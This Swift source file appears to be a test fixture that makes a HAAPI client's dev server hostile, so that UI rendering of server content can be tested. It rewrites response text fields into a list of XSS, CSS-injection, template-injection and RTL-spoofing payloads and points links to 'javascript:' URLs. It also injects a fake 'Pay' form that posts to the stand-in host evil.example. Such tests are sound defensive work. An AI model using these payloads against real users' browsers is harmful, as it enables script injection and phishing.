import Foundation
import HaapiClient
import HaapiModel

/// Plays a hostile HAAPI server on top of the dev server: every text a step shows
/// (titles, texts, labels, action titles, placeholders, details) is replaced by a
/// payload that tries to run script, break out of attributes, styles or the page, or
/// reorder it (RTL overrides, 10 000 characters), and every link goes to `javascript:`.
struct HostileTransport: HTTPTransport {
    static let payloads: [String] = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(2)>",
        "'><svg onload=alert(3)>",
        "</style><script>alert(4)</script>",
        "\u{202E}gnp.exe \u{2066}evil",
        String(repeating: "W", count: 10_000),
        "javascript:alert(5)",
        "*/}body{display:none}/*",
        "</main></form><form action=//evil.example><button>Pay</button>",
        "{{constructor.constructor('alert(6)')()}}",
    ]
    static let textMembers: Set<String> = ["title", "text", "label", "actionTitle", "placeholder", "detail"]

    let inner = URLSessionTransport(defaultTimeout: WebFixture.patience)

    func send(_ request: TransportRequest) async throws -> TransportResponse {
        var response = try await inner.send(request)
        guard MediaType.base(response.headers["Content-Type"] ?? "") == MediaType.haapi,
            let json = try? JSONValue.parse(response.body)
        else { return response }
        var counter = 0
        response.body = Data(Self.poisoned(json, counter: &counter).jsonString().utf8)
        return response
    }

    static func poisoned(_ value: JSONValue, counter: inout Int) -> JSONValue {
        switch value {
        case .object(let members):
            var result: [String: JSONValue] = [:]
            for (name, member) in members {
                if textMembers.contains(name), case .string = member {
                    result[name] = .string(payloads[counter % payloads.count])
                    counter += 1
                } else if name == "links", case .array(let links) = member {
                    result[name] = .array(links.map { link in
                        guard case .object(var fields) = link else { return link }
                        fields["href"] = .string("javascript:alert(7)")
                        fields["title"] = .string(payloads[counter % payloads.count])
                        counter += 1
                        return .object(fields)
                    })
                } else {
                    result[name] = poisoned(member, counter: &counter)
                }
            }
            return .object(result)
        case .array(let items):
            return .array(items.map { poisoned($0, counter: &counter) })
        default:
            return value
        }
    }
}
